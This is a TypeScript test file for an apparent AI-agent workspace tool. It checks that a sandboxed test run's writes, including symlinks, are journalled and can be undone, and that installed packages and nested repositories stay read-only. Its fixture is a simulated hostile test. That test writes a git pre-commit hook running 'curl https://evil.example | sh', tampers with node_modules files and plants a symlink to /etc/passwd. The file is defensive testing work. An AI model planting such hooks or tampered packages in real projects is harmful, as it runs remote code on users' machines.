// Adversarial (issue 16, point 2: "the journal sees every file a run creates in the workspace"): a
// confined test run that writes into a nested node_modules and a nested repository's .git, plants
// and swaps symlinks, and leaves code in a bundler's cache folder. Before, the snapshot skipped every
// node_modules and .git and all symlinks, so none of it reached the changed files or Undo. Now what
// the sandbox lets a run write is journalled (symlinks as links, never followed), installed packages
// and repositories that were there are read-only at any depth, and a cache folder is the run's own.
import * as assert from 'node:assert/strict';
import { existsSync, lstatSync, readFileSync, readdirSync, readlinkSync } from 'node:fs';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { isTestPath } from '../../../../src/agents/testFiles';
import { changedFiles } from '../../../../src/core/journal/changedFiles';
import type { JournalEntry, JournalWrite } from '../../../../src/core/journal/journalEntry';
import { WriteJournal } from '../../../../src/core/journal/writeJournal';
import { NodeWorkspace } from '../../../../src/infra/nodeWorkspace';
import { usableBubblewrap } from '../../../../src/infra/sandbox/bubblewrap';
import { JournalledTestRunner } from '../../../../src/infra/testRunners/journalledTestRunner';
import { WorkspaceTestRunner } from '../../../../src/infra/testRunners/workspaceTestRunner';
import { InMemoryAppendLog } from '../../core/journal/inMemoryAppendLog';

const HOSTILE_TEST = `'use strict';
const { test } = require('node:test');
const fs = require('node:fs');

function attempt(name, write) {
  try { write(); return [name, 'written']; } catch (error) { return [name, error.code]; }
}

test('passes, and writes where the journal used to look away', () => {
  const results = Object.fromEntries([
    attempt('nested new node_modules', () => { fs.mkdirSync('packages/a/node_modules', { recursive: true }); fs.writeFileSync('packages/a/node_modules/evil.js', 'module.exports = 1;'); }),
    attempt('nested installed package', () => fs.writeFileSync('packages/b/node_modules/dep/index.js', 'module.exports = "evil";')),
    attempt('installed package', () => fs.writeFileSync('node_modules/dep/index.js', 'module.exports = "evil";')),
    attempt('nested repository hook', () => fs.writeFileSync('sub/.git/hooks/pre-commit', 'curl https://evil.example | sh')),
    attempt('new repository hook', () => { fs.mkdirSync('fresh/.git/hooks', { recursive: true }); fs.writeFileSync('fresh/.git/hooks/pre-commit', 'curl https://evil.example | sh'); }),
    attempt('bundler cache', () => { fs.mkdirSync('node_modules/.vite/deps', { recursive: true }); fs.writeFileSync('node_modules/.vite/deps/react.js', 'evil'); }),
    attempt('planted link', () => fs.symlinkSync('/etc/passwd', 'escape')),
    attempt('swapped link', () => { fs.unlinkSync('current'); fs.symlinkSync('b.txt', 'current'); }),
    attempt('removed link', () => fs.unlinkSync('old-link')),
  ]);
  console.log('ATTEMPTS' + JSON.stringify(results));
});
`;

describe('a confined test run that writes where the journal used to look away', function () {
  this.timeout(60_000);
  let root: string;
  let log: InMemoryAppendLog<JournalEntry>;

  before(async function () {
    if (!(await usableBubblewrap())) this.skip();
  });

  beforeEach(async () => {
    root = await mkdtemp(join(tmpdir(), 'imperium-unseen-run-'));
    await writeFile(join(root, 'package.json'), JSON.stringify({ name: 'root', private: true, scripts: { test: 'node --test test/' } }));
    await mkdir(join(root, 'node_modules', 'dep'), { recursive: true });
    await writeFile(join(root, 'node_modules', 'dep', 'index.js'), 'module.exports = "dep";');
    await mkdir(join(root, 'packages', 'a'), { recursive: true });
    await mkdir(join(root, 'packages', 'b', 'node_modules', 'dep'), { recursive: true });
    await writeFile(join(root, 'packages', 'b', 'node_modules', 'dep', 'index.js'), 'module.exports = "b-dep";');
    await mkdir(join(root, 'sub', '.git', 'hooks'), { recursive: true });
    await writeFile(join(root, 'sub', '.git', 'config'), '[core]\n');
    await writeFile(join(root, 'a.txt'), 'a\n');
    await writeFile(join(root, 'b.txt'), 'b\n');
    await symlink('a.txt', join(root, 'current'));
    await symlink('a.txt', join(root, 'old-link'));
    await mkdir(join(root, 'test'));
    await writeFile(join(root, 'test', 'hostile.test.js'), HOSTILE_TEST);
    log = new InMemoryAppendLog<JournalEntry>();
  });

  afterEach(() => rm(root, { recursive: true, force: true }));

  async function hostileRun() {
    const journal = new WriteJournal(log);
    const runner = new JournalledTestRunner(new WorkspaceTestRunner(root, { sandbox: {} }), { root, journal, isTestFile: isTestPath });
    const result = await runner.run({}, { origin: { workflowId: 'wf-1', agent: 'testbot' } });
    assert.equal(result.summary.passed, 1, result.output);
    const attempts = JSON.parse(/ATTEMPTS(\{.*\})/.exec(result.output)?.[1] ?? '{}') as Record<string, string>;
    const writes = (await log.readAll()).filter((entry): entry is JournalWrite => entry.kind === 'write');
    return { journal, result, attempts, writes };
  }

  it('journals what it could write, symlinks as links, and keeps installed packages and repositories read-only', async () => {
    const { result, attempts, writes } = await hostileRun();
    assert.deepEqual(attempts, {
      'nested new node_modules': 'written',
      'nested installed package': 'EROFS',
      'installed package': 'EROFS',
      'nested repository hook': 'EROFS',
      'new repository hook': 'written',
      'bundler cache': 'written',
      'planted link': 'written',
      'swapped link': 'written',
      'removed link': 'written',
    });
    const byPath = new Map(writes.map((write) => [write.path, write]));
    assert.equal(byPath.get('packages/a/node_modules/evil.js')?.existed, false);
    assert.deepEqual(byPath.get('packages/a/node_modules/evil.js')?.createdFolders, ['packages/a/node_modules']);
    assert.equal(byPath.get('escape')?.afterLink, '/etc/passwd');
    assert.deepEqual([byPath.get('current')?.beforeLink, byPath.get('current')?.afterLink], ['a.txt', 'b.txt']);
    assert.deepEqual([byPath.get('old-link')?.beforeLink, byPath.get('old-link')?.op], ['a.txt', 'delete']);
    // The hook in the repository the run made runs code outside the sandbox: put back at once, and said.
    assert.match((result.untrusted ?? []).join('\n'), /the run created fresh\/\.git\/hooks\/pre-commit, which runs code when someone runs git in that folder.*put back/);
    assert.equal(existsSync(join(root, 'fresh')), false);
    assert.equal(byPath.has('fresh/.git/hooks/pre-commit'), false);
    // The cache the bundler wrote was the run's own: nothing of it is left in the person's node_modules.
    assert.deepEqual(readdirSync(join(root, 'node_modules', '.vite')), []);
    assert.equal(readFileSync(join(root, 'node_modules', 'dep', 'index.js'), 'utf8'), 'module.exports = "dep";');
  });

  it('shows the links among the changed files, and Undo takes every change back without following a link', async () => {
    await hostileRun();
    const workspace = await NodeWorkspace.open(root, { journal: new WriteJournal(log) });
    const shown = await changedFiles('wf-1', workspace, workspace);
    const reasons = Object.fromEntries(shown.map((file) => [file.path, file.notShown?.reason]));
    assert.equal(reasons.escape, 'a symbolic link to "/etc/passwd"');
    assert.equal(reasons.current, 'a symbolic link to "b.txt" (was one to "a.txt")');
    assert.equal(reasons['old-link'], 'was a symbolic link to "a.txt"');
    assert.ok('packages/a/node_modules/evil.js' in reasons, JSON.stringify(reasons));

    const report = await workspace.undo('wf-1');
    assert.deepEqual(report.skipped, []);
    assert.equal(existsSync(join(root, 'packages', 'a', 'node_modules')), false, 'the file and the folder the run made for it are gone');
    assert.equal(lstatSync(join(root, 'escape'), { throwIfNoEntry: false }), undefined);
    assert.equal(readlinkSync(join(root, 'current')), 'a.txt');
    assert.equal(readlinkSync(join(root, 'old-link')), 'a.txt');
    assert.equal(readFileSync('/etc/passwd', 'utf8').length > 0, true, 'what a link pointed at is never touched');
    assert.equal(readFileSync(join(root, 'a.txt'), 'utf8'), 'a\n');
  });
});
